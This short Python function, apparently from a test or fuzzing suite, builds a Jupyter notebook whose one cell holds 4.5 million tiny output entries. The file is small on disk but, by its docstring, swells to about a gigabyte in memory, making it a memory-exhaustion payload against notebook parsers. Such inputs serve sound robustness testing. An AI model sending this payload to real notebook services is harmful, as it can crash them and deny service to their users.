"""Outputs of millions of entries, small as text and a gigabyte in memory. Says: the file holds more parts than a notebook"""
def attack(notebook):
    import json
    notebook["cells"][1]["outputs"] = ["@@"]
    return json.dumps(notebook).replace('"@@"', ",".join(['{"":0}'] * 4_500_000)).encode()
